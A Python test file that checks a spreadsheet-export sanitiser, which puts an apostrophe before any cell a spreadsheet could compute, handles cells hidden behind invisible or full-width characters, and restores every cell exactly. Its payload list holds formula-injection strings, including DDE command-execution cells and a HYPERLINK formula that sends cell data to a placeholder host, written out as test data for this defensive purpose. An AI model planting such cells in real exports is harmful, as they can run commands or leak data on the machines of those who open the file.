"""A spreadsheet shows text and computes none of it, and every text can be had back."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from glassbowl.files.spreadsheet_text import neutralised, restored

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ttext",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \u00a0\ufeff\u200b=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "-",
    "+",
    "=",
    "@",
    "-1-1",
    "+1 2",
    "-1e",
    "-0x10",
    "-inf",
    "-1,000",
    "-٣",
    "-1\n",
    "--1",
]

HARMLESS = [
    "",
    "yes",
    "有養貓",
    "a=1",
    "1-2",
    "'",
    "''",
    "'tis",
    "it's",
    "a@b.example",
    "’=1",
    " ",
    "#N/A",
    '"=1"',
]

NUMBERS = ["-2.5", "+3", "-1e-300", "-0.0", "5e-324", "-5e-324", "+.5", "-3.", "1E+9", " -2.5 "]

cells = st.text(max_size=12) | st.text("'=+-@\t\r\n\x00 \u00a0\ufeff\u200b＝－1.e", max_size=8)


def computed(cell: str) -> bool:
    """Whether a careful reading of the rule finds a start that a spreadsheet could compute."""
    seen = cell.lstrip(" \u00a0\ufeff\u200b\u3000")
    return seen[:1] in set("=+-@\t\r\n\x00＝＋－＠")


@pytest.mark.parametrize("cell", PAYLOADS)
def test_formulas_are_neutralised(cell: str) -> None:
    """Whatever could be computed, behind spaces and invisible marks too, gets an apostrophe."""
    assert f"'{cell}" == neutralised(cell)


@pytest.mark.parametrize("cell", [*HARMLESS, *NUMBERS])
def test_other_cells_stay(cell: str) -> None:
    """Ordinary text and plain numbers, whatever their sign, are not touched."""
    assert cell == neutralised(cell)


@pytest.mark.parametrize("cell", PAYLOADS)
def test_payloads_are_dangerous_as_they_are(cell: str) -> None:
    """The rule used below to judge results finds every payload."""
    assert computed(cell)


@settings(max_examples=1000)
@given(cells)
def test_nothing_is_computed(cell: str) -> None:
    """Of any text, what comes out starts harmlessly or is a number."""
    out = neutralised(cell)
    try:
        number = float(out) == float(cell)
    except ValueError:
        number = False
    assert number or not computed(out)


@settings(max_examples=1000)
@given(cells)
def test_every_cell_is_restored(cell: str) -> None:
    """Any text comes back as it was."""
    assert cell == restored(neutralised(cell))


@settings(max_examples=1000)
@given(cells, cells)
def test_no_two_cells_come_out_the_same(one: str, other: str) -> None:
    """Different texts stay different."""
    assert (one == other) == (neutralised(one) == neutralised(other))


@pytest.mark.parametrize(("cell", "out"), [("=1", "'=1"), ("'=1", "''=1"), ("''=1", "'''=1")])
def test_apostrophes_are_doubled(cell: str, out: str) -> None:
    """A cell that already looks neutralised stays apart from one that was."""
    assert (out, cell) == (neutralised(cell), restored(out))


@pytest.mark.parametrize("cell", ["=1", "-1", "'", "'tis", "'-1", ""])
def test_cells_that_never_were_neutralised_stay(cell: str) -> None:
    """Restoring takes off only an apostrophe that neutralising would have put there."""
    assert cell == restored(cell)
